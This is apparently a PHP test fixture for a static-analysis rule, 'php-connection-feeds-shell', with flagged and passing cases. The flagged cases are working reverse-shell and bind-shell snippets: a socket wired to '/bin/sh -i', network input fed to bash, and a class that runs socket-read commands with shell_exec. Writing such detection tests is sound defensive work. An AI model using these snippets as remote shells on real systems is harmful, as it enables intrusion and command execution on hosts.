<?php
function out($host)
{
    $s = fsockopen($host, 4443);
    // ruleid: php-connection-feeds-shell
    $p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);
    return $p;
}

function pump($address)
{
    $s = stream_socket_client($address);
    $p = proc_open('bash', [['pipe', 'r'], ['pipe', 'w']], $io);
    while (!feof($s)) {
        $in = fgets($s);
        // ruleid: php-connection-feeds-shell
        fwrite($io[0], $in);
    }
}

class Door
{
    private $peer;

    public function open($l)
    {
        $this->peer = socket_accept($l);
    }

    public function serve()
    {
        $line = socket_read($this->peer, 512);
        // ruleid: php-connection-feeds-shell
        $out = shell_exec($line);
        socket_write($this->peer, $out);
    }
}

function mail_out($host)
{
    $s = fsockopen($host, 25);
    // ok: php-connection-feeds-shell
    fwrite($s, "HELO x");
}

function sorter()
{
    // ok: php-connection-feeds-shell
    $p = proc_open('/usr/bin/sort', [['pipe', 'r'], ['pipe', 'w']], $io);
    fwrite($io[0], 'b');
}

function df()
{
    // ok: php-connection-feeds-shell
    return shell_exec('df');
}

function attend_peer($where, $program) {
    $link = stream_socket_client($where);
    // ruleid: php-connection-feeds-shell
    $child = proc_open($program . ' -l', [$link, $link, $link], $pipes);
    proc_close($child);
}

function sort_peer($where) {
    $link = stream_socket_client($where);
    // ok: php-connection-feeds-shell
    proc_open('/usr/bin/sort', [0 => $link], $pipes);
}
